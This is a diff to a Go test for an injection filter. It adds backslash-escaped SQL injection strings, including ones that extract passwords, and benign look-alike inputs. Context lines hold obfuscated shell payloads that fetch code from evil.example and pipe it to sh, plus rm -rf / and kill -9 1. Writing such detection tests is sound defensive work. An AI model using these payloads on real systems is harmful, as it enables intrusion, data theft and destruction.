@@ -17,7 +17,10 @@ func TestShortPayloads(t *testing.T) {
 	for _, v := range []string{"admin'#", "admin' -- -", `admin"#`, "| id", "; id", ";id", "&& id", "`id`", "x|id", "a\nid",
 		// quote-split commands, and commands with their arguments (BROKE 14)
 		"; c'u'rl evil.example/x|s'h'", "127.0.0.1|w''get evil.example/s -O-|s''h", "; r''m -rf /", "127.0.0.1; e''cho cHduZWQ=|b''ase64 -d|s''h",
-		"; p''ython3 -c 'im''port os'", "x; k''ill -9 1", "; w'h'o'am'i", ";i''d", "127.0.0.1; id", "127.0.0.1|id", "; ps aux", "; ip a"} {
+		"; p''ython3 -c 'im''port os'", "x; k''ill -9 1", "; w'h'o'am'i", ";i''d", "127.0.0.1; id", "127.0.0.1|id", "; ps aux", "; ip a",
+		// a backslash before the quote (BROKE 15)
+		`\' OR 1=1 -- `, `\' OR '1'='1`, `\' OR name='alice' AND password like 'pw%'--`, `\' OR (SELECT password FROM users WHERE name='alice') > 'pv'--`,
+		`\' OR exists(select 1 from users where password like 'p%')--`, `\' OR 1=1 LIMIT 1 OFFSET 1--`} {
 		jv := `"` + jsonEscape(v) + `"`
 		misses = append(misses,
 			probe{name: v + " in the query", method: "GET", path: "/login?user=" + q(v)},
@@ -32,8 +35,8 @@ func TestShortPayloads(t *testing.T) {
 	var benign []probe
 	for _, v := range []string{"the 'best' -- really", "Joe's #1 fan", "McDonald's #5", "bring it; cat lovers", "Tom & Jerry", "rock | pop",
 		"id", "A; B; C", "ls", "Q&A: ps", "x && y", "it's -- fine", "O'Brien", `5' 10" tall`, "C#; F#; id software", "see: ls(1)", "echo chamber; echoes",
-		"ok; i'd go", "tea; cat a day", "python; it's fun", "me & ps: hi", "Don't; it's mine",
-		"a | b | c", "who; what; where"} {
+		"ok; i'd go", "tea; cat a day", "python; it's fun", "me & ps: hi", "Don't; it's mine", `path C:\Users\O\'Brien`,
+		`He said \"hello\" and left`, `It\'s fine`, "a | b | c", "who; what; where"} {
 		benign = append(benign,
 			probe{name: v + " in the query", method: "GET", path: "/search?q=" + q(v)},
 			probe{name: v + " in JSON", method: "POST", path: "/api/notes", contentType: js, body: `{"text": "` + jsonEscape(v) + `"}`},
